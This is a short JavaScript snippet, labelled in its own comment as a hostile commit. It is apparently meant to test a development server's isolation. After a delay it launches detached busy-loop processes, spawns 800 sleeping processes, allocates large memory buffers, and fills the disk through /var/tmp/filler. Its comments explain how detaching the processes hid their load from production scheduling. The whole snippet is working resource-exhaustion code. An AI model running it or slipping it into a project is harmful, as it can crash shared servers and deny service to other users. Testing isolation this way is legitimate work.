// A hostile commit: busy loops, a process flood, a memory balloon, a disk filler.
setTimeout(async () => {
  const { spawn } = await import('node:child_process');
  const { appendFileSync } = await import('node:fs');
  const os = await import('node:os');
  // Two loops per droplet core: inside the dev server os.cpus() is empty (ProcSubset=pid hides /proc/cpuinfo).
  // Each in a session of its own (detached: setsid), as a hostile commit would: the kernel's autogroups
  // weigh one session's loops as one task, which hid their load from production.
  const loops = Math.max(2 * os.cpus().length, 4);
  for (let i = 0; i < loops; i++) {
    spawn(process.execPath, ['-e', 'for (;;) {}'], { stdio: 'ignore', detached: true }).on('error', () => {});
  }
  // The flood before the balloon: each spawn forks this process, and a fork of 1.5 GiB at the loops'
  // idle share takes a quarter of a second.
  for (let i = 0; i < 800; i++) {
    try { spawn('sleep', ['600'], { stdio: 'ignore' }).on('error', () => {}); } catch { /* EAGAIN */ }
  }
  const balloon = globalThis.balloon = [];
  const chunk = Buffer.alloc(32 * 1024 * 1024, 7);
  const fill = () => {
    try {
      if (balloon.length < 6) balloon.push(Buffer.alloc(256 * 1024 * 1024, 1));
      appendFileSync('/var/tmp/filler', chunk);
      setTimeout(fill, 5);
    } catch { /* full */ }
  };
  fill();
}, 4000);
